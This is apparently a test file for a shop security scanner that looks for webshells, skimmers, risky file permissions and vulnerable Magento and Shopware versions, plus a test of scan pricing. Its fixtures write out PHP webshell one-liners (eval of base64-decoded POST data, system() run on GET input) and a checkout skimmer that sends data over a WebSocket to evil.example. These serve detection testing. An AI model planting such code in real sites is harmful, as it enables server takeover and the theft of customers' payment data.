/** The scanner over real files in a temporary server sandbox (the local gateway runs the real `find`). */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { LocalGateway } from '@portal/plugin-sdk/testing';
import { matchSignatures, scanDocumentRoots } from './scanner.ts';
import { advisories } from './signatures.ts';
import { affectedRange, compareVersions } from './versions.ts';
import { scanPrice } from './price.ts';

let base: string;
let gateway: LocalGateway;
const put = (serverPath: string, content: string, mode = 0o644) => {
  const file = path.join(base, '7', serverPath);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, content);
  fs.chmodSync(file, mode);
};

beforeAll(() => {
  base = fs.mkdtempSync(path.join(os.tmpdir(), 'shop-security-'));
  gateway = new LocalGateway({ baseDir: base, serverId: 7 });
});
afterAll(() => fs.rmSync(base, { recursive: true, force: true }));

describe('R2.025 shop-security scan of the document roots', () => {
  it('finds a planted webshell at its line, PHP in an upload directory, a world-writable file and a vulnerable Magento, and nothing in clean files', async () => {
    put('/var/www/shop/pub/index.php', "<?php\nrequire __DIR__ . '/../app/bootstrap.php';\n$bootstrap->run($app);\n");
    put('/var/www/shop/pub/media/catalog/product/cache/thumb.php', '<?php\n// cache\n@eval(base64_decode($_POST["p"]));\n');
    put('/var/www/shop/app/etc/env.php.bak', "<?php return ['db' => 'secret'];\n", 0o666);
    put('/var/www/shop/pub/static/checkout.js', 'var a=1;\nnew WebSocket("wss://evil.example/s");\n// collects onepage checkout fields\n');
    put(
      '/var/www/shop/composer.lock',
      JSON.stringify({ packages: [{ name: 'magento/magento2-base', version: '2.4.6-p3' }, { name: 'twig/twig', version: 'v3.8.0' }, { name: 'phpmailer/phpmailer', version: 'v6.9.1' }] }),
    );
    put('/var/www/blog/wp-content/uploads/2026/11/photo.jpg', 'jpeg');
    const steps: string[] = [];
    const outcome = await scanDocumentRoots(gateway, async (_f, step) => void steps.push(step));

    expect(outcome.roots).toEqual(['/var/www/blog', '/var/www/shop']);
    expect(outcome.filesScanned).toBe(6);
    expect(steps[0]).toBe('listing');
    const rules = outcome.findings.map((f) => `${f.severity} ${f.rule} ${f.file}${f.line ? `:${f.line}` : ''}`);
    expect(rules).toEqual([
      'critical CVE-2024-34102 /var/www/shop/composer.lock',
      'critical eval_obfuscated /var/www/shop/pub/media/catalog/product/cache/thumb.php:3',
      'high php_in_uploads /var/www/shop/pub/media/catalog/product/cache/thumb.php',
      'high js_skimmer_websocket /var/www/shop/pub/static/checkout.js:2',
      'medium world_writable /var/www/shop/app/etc/env.php.bak',
    ]);
    const magento = outcome.findings[0]!;
    expect(magento.extension).toEqual({ name: 'magento/magento2-base', version: '2.4.6-p3', fixedIn: '2.4.6-p6' });
    expect(outcome.findings[1]!.evidence).toBe('@eval(base64_decode($_POST["p"]));');
  });

  it('reads the version of Shopware plugins and Magento app/code extensions from their composer.json', async () => {
    put('/var/www/sw/custom/plugins/Foo/composer.json', JSON.stringify({ name: 'shopware/core', version: '6.4.19.0' }));
    put('/var/www/sw/custom/plugins/Bar/composer.json', JSON.stringify({ name: 'shopware/core', version: '6.4.20.1' }));
    const outcome = await scanDocumentRoots(gateway, async () => undefined);
    const sw = outcome.findings.filter((f) => f.rule === 'CVE-2023-2017');
    expect(sw.map((f) => f.file)).toEqual(['/var/www/sw/custom/plugins/Foo/composer.json']);
  });
});

describe('R2.025 signatures', () => {
  it.each([
    ['<?php system($_GET["c"]);', 'shell_from_request'],
    ['<?php assert($_REQUEST["x"]);', 'eval_from_request'],
    ['<?php eval(gzinflate(str_rot13(base64_decode("..."))));', 'eval_obfuscated'],
    ['<?php $auth_pass = ""; // FilesMan', 'webshell_filesman'],
    ['<?php call_user_func($_POST["f"], $_POST["a"]);', 'callable_from_request'],
  ])('%s is %s', (code, rule) => {
    expect(matchSignatures('/var/www/x/a.php', code).map((f) => f.rule)).toContain(rule);
  });

  it('leaves ordinary shop code alone', () => {
    const code = "<?php\n$data = base64_decode($token);\n$result = json_decode($data, true);\nexec('ls');\n$this->eval($x);\n";
    expect(matchSignatures('/var/www/x/Model.php', code)).toEqual([]);
  });
});

describe('R2.025 known-vulnerable versions', () => {
  it('orders Magento patch releases after their base and before the next release', () => {
    expect(compareVersions('2.4.6', '2.4.6-p1')).toBeLessThan(0);
    expect(compareVersions('2.4.6-p10', '2.4.6-p9')).toBeGreaterThan(0);
    expect(compareVersions('2.4.6-p10', '2.4.7')).toBeLessThan(0);
    expect(compareVersions('2.4.7-beta1', '2.4.7')).toBeLessThan(0);
    expect(compareVersions('v6.4.20.1', '6.4.20.0')).toBeGreaterThan(0);
    expect(compareVersions('dev-main', '1.0.0')).toBeNull();
  });

  it('CosmicSting: each line up to its fixed patch release is affected, the fixed ones are not', () => {
    const cosmic = advisories.find((a) => a.id === 'CVE-2024-34102')!.ranges;
    expect(affectedRange('2.4.7', cosmic)).toBe('2.4.7-p1');
    expect(affectedRange('2.4.7-p1', cosmic)).toBeNull();
    expect(affectedRange('2.4.6-p5', cosmic)).toBe('2.4.6-p6');
    expect(affectedRange('2.4.6-p6', cosmic)).toBeNull();
    expect(affectedRange('2.4.3', cosmic)).toBe('2.4.4-p9');
  });
});

describe('R9.023 free security scans for the Basic SLA from 15.05.2025 to 27.01.2026', () => {
  it.each([
    ['basic', '2025-05-14T21:59:59Z', false, 'offer_not_started'],
    ['basic', '2025-05-14T22:00:00Z', true, 'basic_sla_offer'], // 15.05.2025 00:00 in Berlin
    ['basic', '2026-01-27T22:59:59Z', true, 'basic_sla_offer'], // 27.01.2026 23:59:59 in Berlin
    ['basic', '2026-01-27T23:00:00Z', false, 'offer_ended'],
    ['business', '2025-09-01T10:00:00Z', false, 'sla_not_basic'],
  ])('%s at %s: free %s (%s)', (sla, at, free, reason) => {
    const price = scanPrice(sla, new Date(at));
    expect(price).toMatchObject({ free, reason, freeFrom: '2025-05-15', freeUntil: '2026-01-27' });
    expect(price.cents).toBe(free ? 0 : 1900);
  });
});
